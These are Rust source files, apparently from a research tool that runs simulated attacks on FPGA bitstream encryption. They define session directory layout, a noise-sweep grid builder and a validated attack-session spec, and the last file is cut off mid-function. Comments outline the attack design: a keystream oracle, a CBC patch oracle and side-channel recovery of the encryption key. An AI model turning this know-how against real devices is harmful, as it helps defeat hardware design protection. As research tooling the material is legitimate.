                return Err(ClientError::Server(
                    wire::string_field(&line, "error").unwrap_or(line),
                ));
            }
            *cursor += 1;
            writeln!(out, "{line}")?;
        }
    }
}
