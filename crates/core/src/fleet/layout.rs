//! Typed on-disk layout for attack sessions.
//!
//! A fleet worker (and the sweep binaries) write several artifacts
//! per session — the crash-safe attack journal, the live NDJSON
//! telemetry trace, the submitted spec, the final result — and all of
//! them must land inside *one* session directory that either exists
//! completely or not at all. Resolving each path independently (the
//! pre-0.7 `noise-sweep --journal`/`--trace` behaviour) can
//! half-create a session: the journal's parent directory exists, the
//! trace's does not, and a killed worker leaves an undecodable
//! mixture behind. [`SessionLayout`] owns the whole directory, and
//! [`SessionLayout::create`] materialises it atomically (populate a
//! hidden temp directory, then one `rename`), so a directory that
//! exists is always complete.

use core::fmt;
use std::fs;
use std::io;
use std::path::{Path, PathBuf};

/// File name of the crash-safe attack journal inside a session
/// directory.
pub const JOURNAL_FILE: &str = "attack.journal";

/// File name of the live NDJSON telemetry trace.
pub const TRACE_FILE: &str = "trace.ndjson";

/// File name of the submitted session spec (wire form, one line).
pub const SPEC_FILE: &str = "spec";

/// File name of the terminal session result (one JSON line).
pub const RESULT_FILE: &str = "result.json";

/// File name of the client's submit idempotency token (absent when
/// the submit carried none). Persisted so the boot rescan can rebuild
/// the dedup map and a client retrying across a daemon restart still
/// gets the original session back.
pub const TOKEN_FILE: &str = "client.token";

/// A failure while resolving or materialising an output layout.
#[derive(Debug)]
#[non_exhaustive]
pub enum LayoutError {
    /// Creating or renaming the session directory failed.
    Io {
        /// The directory being created.
        dir: PathBuf,
        /// The underlying I/O error.
        source: io::Error,
    },
    /// `--dir` was combined with an explicit `--journal`/`--trace`
    /// path; the layout owns both, so the combination is ambiguous.
    ConflictingPaths {
        /// The flag that conflicted with `--dir`.
        flag: &'static str,
    },
}

impl fmt::Display for LayoutError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LayoutError::Io { dir, source } => {
                write!(f, "cannot materialise session directory {}: {source}", dir.display())
            }
            LayoutError::ConflictingPaths { flag } => {
                write!(f, "--dir resolves {flag} itself; drop the explicit {flag} path")
            }
        }
    }
}

impl std::error::Error for LayoutError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            LayoutError::Io { source, .. } => Some(source),
            LayoutError::ConflictingPaths { .. } => None,
        }
    }
}

/// The on-disk home of one attack session (or one sweep): a single
/// directory holding the journal, trace, spec and result files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionLayout {
    dir: PathBuf,
}

impl SessionLayout {
    /// The layout rooted at `dir` (not yet created — see
    /// [`SessionLayout::create`]).
    #[must_use]
    pub fn at(dir: impl Into<PathBuf>) -> Self {
        Self { dir: dir.into() }
    }

    /// The layout of session `id` under the fleet root `root`
    /// (`root/id`).
    #[must_use]
    pub fn for_session(root: impl AsRef<Path>, id: &str) -> Self {
        Self { dir: root.as_ref().join(id) }
    }

    /// The session directory.
    #[must_use]
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// Path of the crash-safe attack journal.
    #[must_use]
    pub fn journal(&self) -> PathBuf {
        self.dir.join(JOURNAL_FILE)
    }

    /// Path of the live NDJSON telemetry trace.
    #[must_use]
    pub fn trace(&self) -> PathBuf {
        self.dir.join(TRACE_FILE)
    }

    /// Path of the submitted spec (wire form).
    #[must_use]
    pub fn spec(&self) -> PathBuf {
        self.dir.join(SPEC_FILE)
    }

    /// Path of the terminal result record.
    #[must_use]
    pub fn result(&self) -> PathBuf {
        self.dir.join(RESULT_FILE)
    }

    /// Path of the submit idempotency token (may not exist).
    #[must_use]
    pub fn token(&self) -> PathBuf {
        self.dir.join(TOKEN_FILE)
    }

    /// Whether the session directory exists (and is therefore
    /// complete — see [`SessionLayout::create`]).
    #[must_use]
    pub fn exists(&self) -> bool {
        self.dir.is_dir()
    }

    /// Materialises the session directory atomically: contents are
    /// staged in a hidden sibling (`.<name>.tmp-<pid>`) and published
    /// with a single `rename`, so a crash mid-create leaves no
    /// half-built directory under the session's name. `seed_files`
    /// are written into the staged directory before the rename
    /// (`(file name, contents)` pairs — the spec, typically).
    /// Idempotent: an existing directory is left untouched.
    ///
    /// # Errors
    ///
    /// [`LayoutError::Io`] when staging or renaming fails.
    pub fn create(&self, seed_files: &[(&str, &str)]) -> Result<(), LayoutError> {
        if self.exists() {
            return Ok(());
        }
        let io_err = |source| LayoutError::Io { dir: self.dir.clone(), source };
        let parent = self.dir.parent().unwrap_or_else(|| Path::new("."));
        fs::create_dir_all(parent).map_err(io_err)?;
        let name = self.dir.file_name().map(|n| n.to_string_lossy()).unwrap_or_default();
        let staging = parent.join(format!(".{name}.tmp-{}", std::process::id()));
        let _ = fs::remove_dir_all(&staging);
        fs::create_dir(&staging).map_err(io_err)?;
        for (file, contents) in seed_files {
            fs::write(staging.join(file), contents).map_err(io_err)?;
        }
        match fs::rename(&staging, &self.dir) {
            Ok(()) => Ok(()),
            // Lost a create race: someone else published the
            // directory first; theirs is complete, ours is surplus.
            Err(_) if self.exists() => {
                let _ = fs::remove_dir_all(&staging);
                Ok(())
            }
            Err(source) => {
                let _ = fs::remove_dir_all(&staging);
                Err(io_err(source))
            }
        }
    }
}

/// The resolved output paths of a journalled + traced run: both
/// resolved through one call, so they cannot disagree about where the
/// session lives. This is the CLI-facing face of [`SessionLayout`] —
/// `noise-sweep` (and `bitmod attack`) feed their `--dir`,
/// `--journal` and `--trace` flags through [`OutputPaths::resolve`].
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct OutputPaths {
    /// Where the crash-safe journal goes (`None` = not journalled).
    pub journal: Option<PathBuf>,
    /// Where the NDJSON trace goes (`None` = not traced).
    pub trace: Option<PathBuf>,
}

impl OutputPaths {
    /// Resolves the three output flags into one consistent layout:
    ///
    /// * with `dir`, both paths live inside the atomically-created
    ///   session directory ([`JOURNAL_FILE`], [`TRACE_FILE`]), and
    ///   combining `dir` with an explicit path is a typed error;
    /// * without `dir`, the explicit paths pass through unchanged
    ///   (both may be `None`).
    ///
    /// # Errors
    ///
    /// [`LayoutError::ConflictingPaths`] for `dir` + explicit path;
    /// [`LayoutError::Io`] when the session directory cannot be
    /// created.
    pub fn resolve(
        dir: Option<&Path>,
        journal: Option<PathBuf>,
        trace: Option<PathBuf>,
    ) -> Result<Self, LayoutError> {
        let Some(dir) = dir else { return Ok(Self { journal, trace }) };
        if journal.is_some() {
            return Err(LayoutError::ConflictingPaths { flag: "--journal" });
        }
        if trace.is_some() {
            return Err(LayoutError::ConflictingPaths { flag: "--trace" });
        }
        let layout = SessionLayout::at(dir);
        layout.create(&[])?;
        Ok(Self { journal: Some(layout.journal()), trace: Some(layout.trace()) })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tempdir(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("bitmod-layout-{tag}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        dir
    }

    #[test]
    fn create_is_atomic_and_idempotent() {
        let root = tempdir("atomic");
        let layout = SessionLayout::for_session(&root, "s000001");
        assert!(!layout.exists());
        layout.create(&[(SPEC_FILE, "seed=7\n")]).expect("creates");
        assert!(layout.exists());
        assert_eq!(fs::read_to_string(layout.spec()).expect("spec"), "seed=7\n");
        // No staging residue.
        let residue: Vec<_> = fs::read_dir(&root)
            .expect("root")
            .filter_map(Result::ok)
            .filter(|e| e.file_name().to_string_lossy().contains("tmp"))
            .collect();
        assert!(residue.is_empty(), "staging directory must not survive: {residue:?}");
        // Re-creating does not clobber.
        layout.create(&[(SPEC_FILE, "seed=9\n")]).expect("idempotent");
        assert_eq!(fs::read_to_string(layout.spec()).expect("spec"), "seed=7\n");
        let _ = fs::remove_dir_all(&root);
    }

    #[test]
    fn resolve_derives_both_paths_from_dir() {
        let dir = tempdir("resolve");
        let paths = OutputPaths::resolve(Some(dir.as_path()), None, None).expect("resolves");
        assert_eq!(paths.journal.as_deref(), Some(dir.join(JOURNAL_FILE).as_path()));
        assert_eq!(paths.trace.as_deref(), Some(dir.join(TRACE_FILE).as_path()));
        assert!(dir.is_dir(), "the session directory is created");
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn resolve_rejects_dir_plus_explicit_path() {
        let dir = tempdir("conflict");
        let err = OutputPaths::resolve(Some(dir.as_path()), Some("x.journal".into()), None)
            .expect_err("conflict");
        assert!(matches!(err, LayoutError::ConflictingPaths { flag: "--journal" }), "{err}");
        let err = OutputPaths::resolve(Some(dir.as_path()), None, Some("x.ndjson".into()))
            .expect_err("conflict");
        assert!(err.to_string().contains("--trace"), "{err}");
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn resolve_passes_explicit_paths_through() {
        let paths = OutputPaths::resolve(None, Some("a.journal".into()), None).expect("passes");
        assert_eq!(paths.journal.as_deref(), Some(Path::new("a.journal")));
        assert_eq!(paths.trace, None);
    }
}
