//! The validating sweep-grid builder: a (glitch × load-failure) grid
//! of noisy [`SessionSpec`]s plus the campaign-journal labels that
//! identify each cell.
//!
//! `noise-sweep` used to assemble its grid, labels and per-cell
//! resilience configs by hand; a fleet server accepting batch
//! submissions cannot — so the grid goes through the same typed
//! validation as a single session: every cell spec is built by
//! [`SessionSpecBuilder`](super::session::SessionSpecBuilder), and an
//! empty axis or an out-of-range rate is a [`ConfigError`], not a
//! panic three cells into a sweep.

use super::session::{ConfigError, SessionSpec};

/// One cell of a sweep: its campaign-journal label and the validated
/// session spec that runs it.
#[derive(Debug, Clone, PartialEq)]
pub struct SweepCell {
    /// The label identifying the cell in campaign journals and
    /// tables. It carries everything trace-determining: rates, seed
    /// and votes.
    pub label: String,
    /// The per-bit keystream glitch rate of this cell.
    pub glitch: f64,
    /// The transient load-failure rate of this cell.
    pub load_fail: f64,
    /// The validated spec.
    pub spec: SessionSpec,
}

/// A validated sweep grid, cells in row-major (glitch-outer) order.
#[derive(Debug, Clone, PartialEq)]
pub struct SweepGrid {
    cells: Vec<SweepCell>,
}

impl SweepGrid {
    /// A fresh builder with the standard noise-sweep axes
    /// (glitch ∈ {0, 0.5%, 1%, 2%} × load-fail ∈ {0, 10%, 25%}),
    /// seed 7, 5 votes.
    #[must_use]
    pub fn builder() -> SweepGridBuilder {
        SweepGridBuilder::default()
    }

    /// The cells, in grid order.
    #[must_use]
    pub fn cells(&self) -> &[SweepCell] {
        &self.cells
    }

    /// Number of cells.
    #[must_use]
    pub fn len(&self) -> usize {
        self.cells.len()
    }

    /// Whether the grid is empty (it never is — the builder rejects
    /// empty axes — but clippy insists `len` has a partner).
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.cells.is_empty()
    }

    /// The labels, in grid order (what [`crate::campaign::Campaign`]
    /// wants).
    #[must_use]
    pub fn labels(&self) -> Vec<String> {
        self.cells.iter().map(|c| c.label.clone()).collect()
    }
}

/// Builds a [`SweepGrid`], validating on [`SweepGridBuilder::build`].
#[derive(Debug, Clone)]
pub struct SweepGridBuilder {
    glitches: Vec<f64>,
    load_fails: Vec<f64>,
    seed: u64,
    votes: u32,
    budget: Option<u64>,
    batch: usize,
    encrypted: bool,
}

impl Default for SweepGridBuilder {
    fn default() -> Self {
        Self {
            glitches: vec![0.0, 0.005, 0.01, 0.02],
            load_fails: vec![0.0, 0.10, 0.25],
            seed: 7,
            votes: 5,
            budget: None,
            batch: 1,
            encrypted: false,
        }
    }
}

impl SweepGridBuilder {
    /// Replaces the glitch axis.
    #[must_use]
    pub fn glitches(mut self, glitches: &[f64]) -> Self {
        self.glitches = glitches.to_vec();
        self
    }

    /// Replaces the load-failure axis.
    #[must_use]
    pub fn load_fails(mut self, load_fails: &[f64]) -> Self {
        self.load_fails = load_fails.to_vec();
        self
    }

    /// Collapses the grid to the single acceptance-floor cell
    /// (1% glitch, 10% load failure) — the `--smoke` mode.
    #[must_use]
    pub fn smoke(mut self) -> Self {
        self.glitches = vec![0.01];
        self.load_fails = vec![0.10];
        self
    }

    /// The fault/jitter seed shared by every cell.
    #[must_use]
    pub fn seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }

    /// Majority-vote ballots per oracle query.
    #[must_use]
    pub fn votes(mut self, votes: u32) -> Self {
        self.votes = votes;
        self
    }

    /// Caps each cell's physical oracle attempts.
    #[must_use]
    pub fn budget(mut self, budget: u64) -> Self {
        self.budget = Some(budget);
        self
    }

    /// Oracle batch width per cell.
    #[must_use]
    pub fn batch(mut self, batch: usize) -> Self {
        self.batch = batch;
        self
    }

    /// Runs every cell over the Fig. 1 encrypted container: each
    /// candidate load is patch-sealed through the CBC patch oracle
    /// and device-verified before the noisy board sees it.
    #[must_use]
    pub fn encrypted(mut self, encrypted: bool) -> Self {
        self.encrypted = encrypted;
        self
    }

    /// Validates and produces the grid: each axis must be non-empty,
    /// and every cell spec passes full session validation.
    ///
    /// # Errors
    ///
    /// [`ConfigError::EmptyAxis`] for an empty axis, plus any
    /// per-cell spec validation error (out-of-range rate, even
    /// votes, …).
    pub fn build(self) -> Result<SweepGrid, ConfigError> {
        if self.glitches.is_empty() {
            return Err(ConfigError::EmptyAxis("glitch"));
        }
        if self.load_fails.is_empty() {
            return Err(ConfigError::EmptyAxis("load_fail"));
        }
        let mut cells = Vec::with_capacity(self.glitches.len() * self.load_fails.len());
        for &glitch in &self.glitches {
            for &load_fail in &self.load_fails {
                let mut builder = SessionSpec::builder()
                    .noisy(true)
                    .seed(self.seed)
                    .glitch(glitch)
                    .load_fail(load_fail)
                    .votes(self.votes)
                    .batch(self.batch)
                    .encrypted(self.encrypted);
                if let Some(budget) = self.budget {
                    builder = builder.budget(budget);
                }
                let spec = builder.build()?;
                // The label carries everything trace-determining;
                // `encrypted` changes the journal contents (SCA
                // accounting), so it must split the campaign cells.
                let container = if self.encrypted { " encrypted" } else { "" };
                cells.push(SweepCell {
                    label: format!(
                        "glitch={glitch} load_fail={load_fail} seed={} votes={}{container}",
                        self.seed, self.votes
                    ),
                    glitch,
                    load_fail,
                    spec,
                });
            }
        }
        Ok(SweepGrid { cells })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_default_grid_matches_the_noise_sweep_table() {
        let grid = SweepGrid::builder().build().expect("valid");
        assert_eq!(grid.len(), 12);
        assert_eq!(grid.cells()[0].label, "glitch=0 load_fail=0 seed=7 votes=5");
        assert_eq!(grid.cells()[11].label, "glitch=0.02 load_fail=0.25 seed=7 votes=5");
        assert!(grid.cells().iter().all(|c| c.spec.is_noisy()));
    }

    #[test]
    fn smoke_collapses_to_the_acceptance_floor_cell() {
        let grid = SweepGrid::builder().smoke().build().expect("valid");
        assert_eq!(grid.len(), 1);
        assert_eq!(grid.cells()[0].glitch, 0.01);
        assert_eq!(grid.cells()[0].load_fail, 0.10);
    }

    #[test]
    fn encrypted_grids_mark_every_cell_and_label() {
        let grid = SweepGrid::builder().smoke().encrypted(true).build().expect("valid");
        assert!(grid.cells().iter().all(|c| c.spec.is_encrypted()));
        assert!(grid.cells()[0].label.ends_with(" encrypted"));
        // Plaintext labels are untouched — existing campaign journals
        // keep resuming.
        let plain = SweepGrid::builder().smoke().build().expect("valid");
        assert!(!plain.cells()[0].label.contains("encrypted"));
    }

    #[test]
    fn invalid_axes_and_rates_are_typed_errors() {
        let err = SweepGrid::builder().glitches(&[]).build().unwrap_err();
        assert_eq!(err, ConfigError::EmptyAxis("glitch"));
        let err = SweepGrid::builder().load_fails(&[]).build().unwrap_err();
        assert_eq!(err, ConfigError::EmptyAxis("load_fail"));
        let err = SweepGrid::builder().glitches(&[2.0]).build().unwrap_err();
        assert!(matches!(err, ConfigError::RateOutOfRange { name: "glitch", .. }));
        let err = SweepGrid::builder().votes(2).build().unwrap_err();
        assert_eq!(err, ConfigError::BadVotes(2));
    }
}
