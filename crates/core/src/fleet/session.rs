//! The session facade: one validated way to describe and run an
//! attack.
//!
//! Before 0.7 the crate had three parallel ways to start an attack —
//! the free-form [`Attack`](crate::Attack) constructor chain, the
//! `AttackOptions` field bag behind the CLI, and hand-rolled closures
//! inside the sweep binaries — each validating (or not validating)
//! its inputs independently. A fleet server accepting specs over a
//! socket cannot afford three construction paths, so this module
//! funnels everything through one:
//!
//! * [`SessionSpec::builder`] — a validating builder producing an
//!   immutable, wire-serialisable [`SessionSpec`] (typed
//!   [`ConfigError`]s instead of panics or silent nonsense);
//! * [`SessionSpec::run_local`] — builds the standard simulated
//!   victim (ETSI Test Set 1) and runs the full pipeline, honouring
//!   the spec's journal/trace/resume settings;
//! * [`SessionSpec::run_against`] — the same engine over a
//!   caller-supplied oracle, used by fleet workers (pooled boards,
//!   supervised oracles) and custom experiments.
//!
//! CLI flags (`bitmod attack`, `bitmod submit`) and server-submitted
//! wire specs both parse into the same builder, so a spec that
//! validates locally validates on the server and vice versa.

use core::fmt;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use bitstream::{Bitstream, FRAME_BYTES};

use crate::attack::{Attack, AttackCheckpoint, AttackError, AttackReport};
use crate::campaign::{CancelToken, CellStats, CellSupervisor};
use crate::journal::AttackJournal;
use crate::oracle::KeystreamOracle;
use crate::resilient::ResilienceConfig;
use crate::telemetry::{names, Telemetry, TelemetryError};

use super::layout::LayoutError;

/// A spec-construction failure: the typed reasons a [`SessionSpec`]
/// (or a sweep grid) can be rejected, shared by the CLI flag parser
/// and the wire-protocol decoder.
#[derive(Debug, PartialEq)]
#[non_exhaustive]
pub enum ConfigError {
    /// A probability was outside `[0, 1]`.
    RateOutOfRange {
        /// Which rate (`glitch`, `load_fail`).
        name: &'static str,
        /// The offending value.
        value: f64,
    },
    /// Majority voting needs an odd, non-zero ballot count.
    BadVotes(u32),
    /// The sub-vector stride must be non-zero.
    ZeroStride,
    /// The oracle batch width must be between 1 and the gang lane
    /// count.
    BatchTooWide {
        /// Requested width.
        got: usize,
        /// The widest supported batch ([`fpga_sim::GANG_LANES`]).
        max: usize,
    },
    /// A zero physical-query budget can never complete the golden
    /// read.
    ZeroBudget,
    /// `resume` was requested without a journal to resume from.
    ResumeWithoutJournal,
    /// A wire/spec field was not recognised.
    UnknownField(String),
    /// A wire/spec field failed to parse.
    BadField {
        /// The field name.
        name: String,
        /// The unparsable value.
        value: String,
    },
    /// A sweep axis was empty.
    EmptyAxis(&'static str),
}

impl fmt::Display for ConfigError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ConfigError::RateOutOfRange { name, value } => {
                write!(f, "{name} = {value} is not a probability in [0, 1]")
            }
            ConfigError::BadVotes(v) => {
                write!(f, "votes = {v}: majority voting needs an odd, non-zero ballot count")
            }
            ConfigError::ZeroStride => write!(f, "stride must be non-zero"),
            ConfigError::BatchTooWide { got, max } => {
                write!(f, "batch = {got} exceeds the {max}-lane gang simulator")
            }
            ConfigError::ZeroBudget => write!(f, "budget = 0 cannot cover the golden read"),
            ConfigError::ResumeWithoutJournal => {
                write!(f, "resume requires a journal path")
            }
            ConfigError::UnknownField(name) => write!(f, "unknown spec field '{name}'"),
            ConfigError::BadField { name, value } => {
                write!(f, "spec field {name} = '{value}' does not parse")
            }
            ConfigError::EmptyAxis(axis) => write!(f, "sweep axis '{axis}' is empty"),
        }
    }
}

impl std::error::Error for ConfigError {}

/// A validated, immutable attack-session description. Construct with
/// [`SessionSpec::builder`] (CLI flags) or [`SessionSpec::from_wire`]
/// (server submissions) — both run the same validation.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionSpec {
    /// Attack an [`fpga_sim::UnreliableBoard`] instead of the ideal
    /// board.
    pub(crate) noisy: bool,
    /// Seed for the fault model and the resilience jitter.
    pub(crate) seed: u64,
    /// Per-bit keystream glitch probability (noisy mode).
    pub(crate) glitch: f64,
    /// Transient load-failure probability (noisy mode).
    pub(crate) load_fail: f64,
    /// Majority-vote reads per oracle query (noisy mode).
    pub(crate) votes: u32,
    /// Drive votes/retries/backoff from the online fault-rate
    /// estimator instead of fixed settings (noisy mode).
    pub(crate) adaptive: bool,
    /// Gilbert–Elliott burst entry probability per load (0 = no burst
    /// model).
    pub(crate) burst_enter: f64,
    /// Gilbert–Elliott burst exit probability per load.
    pub(crate) burst_exit: f64,
    /// Per-bit glitch probability while inside a burst.
    pub(crate) burst_glitch: f64,
    /// Progressive degradation: per-load multiplicative fault-rate
    /// drift (0 = stable board).
    pub(crate) drift: f64,
    /// Stuck-at mask over the first keystream word (0 = no stuck
    /// bits).
    pub(crate) stuck: u32,
    /// Cap on physical oracle attempts (`None` = unlimited).
    pub(crate) budget: Option<u64>,
    /// Sub-vector stride `d`.
    pub(crate) stride: usize,
    /// Oracle batch width (1 = serial).
    pub(crate) batch: usize,
    /// Wall-clock deadline for the session, enforced at the oracle
    /// chokepoint (`None` = unlimited).
    pub(crate) deadline_ms: Option<u64>,
    /// Crash-safe journal path (local runs; fleet workers use the
    /// session layout instead).
    pub(crate) journal: Option<PathBuf>,
    /// Resume from the journal instead of starting fresh.
    pub(crate) resume: bool,
    /// NDJSON telemetry trace path (local runs).
    pub(crate) trace: Option<PathBuf>,
    /// Run the attack over the sealed container: the golden bitstream
    /// is only available as ciphertext, `K_E` comes from the
    /// side-channel trace budget, and every candidate load is
    /// patch-sealed and device-verified before the board sees it.
    pub(crate) encrypted: bool,
    /// Side-channel power traces the encrypted session may spend
    /// recovering `K_E`.
    pub(crate) sca_traces: u32,
    /// Ship candidate loads as frame-delta partial-reconfiguration
    /// streams (first load full, later candidates delta from the
    /// on-device image; non-expressible candidates fall back to full
    /// loads).
    pub(crate) partial: bool,
}

impl Default for SessionSpec {
    fn default() -> Self {
        Self {
            noisy: false,
            seed: 1,
            glitch: 0.01,
            load_fail: 0.10,
            votes: 5,
            adaptive: false,
            burst_enter: 0.0,
            burst_exit: 0.0,
            burst_glitch: 0.0,
            drift: 0.0,
            stuck: 0,
            budget: None,
            stride: FRAME_BYTES,
            batch: 1,
            deadline_ms: None,
            journal: None,
            resume: false,
            trace: None,
            encrypted: false,
            sca_traces: crate::encrypted::SCA_TRACES_REQUIRED,
            partial: false,
        }
    }
}

/// Builds a [`SessionSpec`], validating on
/// [`SessionSpecBuilder::build`].
#[derive(Debug, Clone, Default)]
pub struct SessionSpecBuilder {
    spec: SessionSpec,
}

impl SessionSpecBuilder {
    /// Attack the seeded fault-injecting board.
    #[must_use]
    pub fn noisy(mut self, noisy: bool) -> Self {
        self.spec.noisy = noisy;
        self
    }

    /// Seed for the fault model and resilience jitter.
    #[must_use]
    pub fn seed(mut self, seed: u64) -> Self {
        self.spec.seed = seed;
        self
    }

    /// Per-bit keystream glitch probability (noisy mode).
    #[must_use]
    pub fn glitch(mut self, glitch: f64) -> Self {
        self.spec.glitch = glitch;
        self
    }

    /// Transient load-failure probability (noisy mode).
    #[must_use]
    pub fn load_fail(mut self, load_fail: f64) -> Self {
        self.spec.load_fail = load_fail;
        self
    }

    /// Majority-vote ballots per oracle query (noisy mode; odd).
    #[must_use]
    pub fn votes(mut self, votes: u32) -> Self {
        self.spec.votes = votes;
        self
    }

    /// Let the adaptive policy controller drive votes/retries/backoff
    /// from the online fault-rate estimate.
    #[must_use]
    pub fn adaptive(mut self, adaptive: bool) -> Self {
        self.spec.adaptive = adaptive;
        self
    }

    /// Gilbert–Elliott burst noise: `enter`/`exit` are the per-load
    /// state-transition probabilities, `glitch` the per-bit glitch
    /// probability while inside a burst.
    #[must_use]
    pub fn burst(mut self, enter: f64, exit: f64, glitch: f64) -> Self {
        self.spec.burst_enter = enter;
        self.spec.burst_exit = exit;
        self.spec.burst_glitch = glitch;
        self
    }

    /// Progressive degradation: per-load multiplicative fault-rate
    /// drift.
    #[must_use]
    pub fn drift(mut self, drift: f64) -> Self {
        self.spec.drift = drift;
        self
    }

    /// Stuck-at mask over the first keystream word.
    #[must_use]
    pub fn stuck(mut self, mask: u32) -> Self {
        self.spec.stuck = mask;
        self
    }

    /// Cap on physical oracle attempts.
    #[must_use]
    pub fn budget(mut self, budget: u64) -> Self {
        self.spec.budget = Some(budget);
        self
    }

    /// Sub-vector stride `d` (device-family parameter).
    #[must_use]
    pub fn stride(mut self, stride: usize) -> Self {
        self.spec.stride = stride;
        self
    }

    /// Oracle batch width (up to [`fpga_sim::GANG_LANES`]).
    #[must_use]
    pub fn batch(mut self, batch: usize) -> Self {
        self.spec.batch = batch;
        self
    }

    /// Wall-clock deadline, enforced at the oracle chokepoint.
    #[must_use]
    pub fn deadline_ms(mut self, deadline_ms: u64) -> Self {
        self.spec.deadline_ms = Some(deadline_ms);
        self
    }

    /// Crash-safe journal path for local runs.
    #[must_use]
    pub fn journal(mut self, path: impl Into<PathBuf>) -> Self {
        self.spec.journal = Some(path.into());
        self
    }

    /// Resume from the journal instead of starting fresh.
    #[must_use]
    pub fn resume(mut self, resume: bool) -> Self {
        self.spec.resume = resume;
        self
    }

    /// NDJSON telemetry trace path for local runs.
    #[must_use]
    pub fn trace(mut self, path: impl Into<PathBuf>) -> Self {
        self.spec.trace = Some(path.into());
        self
    }

    /// Run the attack over the sealed container (ciphertext-only
    /// attacker; `K_E` from the side channel).
    #[must_use]
    pub fn encrypted(mut self, encrypted: bool) -> Self {
        self.spec.encrypted = encrypted;
        self
    }

    /// Side-channel trace budget of an encrypted session (defaults to
    /// [`crate::encrypted::SCA_TRACES_REQUIRED`]).
    #[must_use]
    pub fn sca_traces(mut self, traces: u32) -> Self {
        self.spec.sca_traces = traces;
        self
    }

    /// Ship candidate loads as frame-delta partial-reconfiguration
    /// streams instead of full configurations.
    #[must_use]
    pub fn partial(mut self, partial: bool) -> Self {
        self.spec.partial = partial;
        self
    }

    /// Validates and produces the spec.
    ///
    /// # Errors
    ///
    /// A typed [`ConfigError`] naming the first invalid field.
    pub fn build(self) -> Result<SessionSpec, ConfigError> {
        let s = self.spec;
        for (name, value) in [
            ("glitch", s.glitch),
            ("load_fail", s.load_fail),
            ("burst_enter", s.burst_enter),
            ("burst_exit", s.burst_exit),
            ("burst_glitch", s.burst_glitch),
            ("drift", s.drift),
        ] {
            if !(0.0..=1.0).contains(&value) || value.is_nan() {
                return Err(ConfigError::RateOutOfRange { name, value });
            }
        }
        if s.votes == 0 || s.votes.is_multiple_of(2) {
            return Err(ConfigError::BadVotes(s.votes));
        }
        if s.stride == 0 {
            return Err(ConfigError::ZeroStride);
        }
        if s.batch == 0 || s.batch > fpga_sim::GANG_LANES {
            return Err(ConfigError::BatchTooWide { got: s.batch, max: fpga_sim::GANG_LANES });
        }
        if s.budget == Some(0) {
            return Err(ConfigError::ZeroBudget);
        }
        if s.resume && s.journal.is_none() {
            return Err(ConfigError::ResumeWithoutJournal);
        }
        Ok(s)
    }
}

impl SessionSpec {
    /// A fresh validating builder with the library defaults (clean
    /// board, seed 1, serial oracle, one-frame stride).
    #[must_use]
    pub fn builder() -> SessionSpecBuilder {
        SessionSpecBuilder::default()
    }

    /// The canonical one-line wire form: space-separated `key=value`
    /// pairs, stable field order. Local-only fields (journal, trace,
    /// resume) are deliberately absent — the serving side owns its
    /// session layout.
    #[must_use]
    pub fn to_wire(&self) -> String {
        let mut line = format!(
            "noisy={} seed={} glitch={} load_fail={} votes={} stride={} batch={}",
            self.noisy, self.seed, self.glitch, self.load_fail, self.votes, self.stride, self.batch
        );
        if let Some(budget) = self.budget {
            line.push_str(&format!(" budget={budget}"));
        }
        if let Some(deadline) = self.deadline_ms {
            line.push_str(&format!(" deadline_ms={deadline}"));
        }
        // Resilience/fault-taxonomy extensions ride the wire only when
        // set, so pre-0.8 lines still parse and default lines still
        // render identically.
        if self.adaptive {
            line.push_str(" adaptive=true");
        }
        if self.burst_enter > 0.0 {
            line.push_str(&format!(
                " burst_enter={} burst_exit={} burst_glitch={}",
                self.burst_enter, self.burst_exit, self.burst_glitch
            ));
        }
        if self.drift > 0.0 {
            line.push_str(&format!(" drift={}", self.drift));
        }
        if self.stuck != 0 {
            line.push_str(&format!(" stuck={:#010x}", self.stuck));
        }
        // Encrypted-path extensions (0.10): absent on plaintext specs
        // with the default trace budget, so pre-0.10 lines still parse
        // and default lines still render identically.
        if self.encrypted {
            line.push_str(" encrypted=true");
        }
        if self.sca_traces != crate::encrypted::SCA_TRACES_REQUIRED {
            line.push_str(&format!(" sca_traces={}", self.sca_traces));
        }
        // Partial-reconfiguration extension (0.11): absent when off,
        // so pre-0.11 lines still parse and default lines still
        // render identically.
        if self.partial {
            line.push_str(" partial=true");
        }
        line
    }

    /// Parses the wire form back through the validating builder.
    ///
    /// # Errors
    ///
    /// [`ConfigError::UnknownField`] / [`ConfigError::BadField`] on
    /// malformed input, plus every validation [`ConfigError`] a
    /// locally-built spec can raise.
    pub fn from_wire(line: &str) -> Result<Self, ConfigError> {
        let mut b = Self::builder();
        for pair in line.split_ascii_whitespace() {
            let (key, value) = pair.split_once('=').ok_or_else(|| ConfigError::BadField {
                name: pair.to_string(),
                value: String::new(),
            })?;
            let bad = || ConfigError::BadField { name: key.to_string(), value: value.to_string() };
            b = match key {
                "noisy" => b.noisy(value.parse().map_err(|_| bad())?),
                "seed" => b.seed(value.parse().map_err(|_| bad())?),
                "glitch" => b.glitch(value.parse().map_err(|_| bad())?),
                "load_fail" => b.load_fail(value.parse().map_err(|_| bad())?),
                "votes" => b.votes(value.parse().map_err(|_| bad())?),
                "adaptive" => b.adaptive(value.parse().map_err(|_| bad())?),
                "burst_enter" => {
                    b.spec.burst_enter = value.parse().map_err(|_| bad())?;
                    b
                }
                "burst_exit" => {
                    b.spec.burst_exit = value.parse().map_err(|_| bad())?;
                    b
                }
                "burst_glitch" => {
                    b.spec.burst_glitch = value.parse().map_err(|_| bad())?;
                    b
                }
                "drift" => b.drift(value.parse().map_err(|_| bad())?),
                "stuck" => {
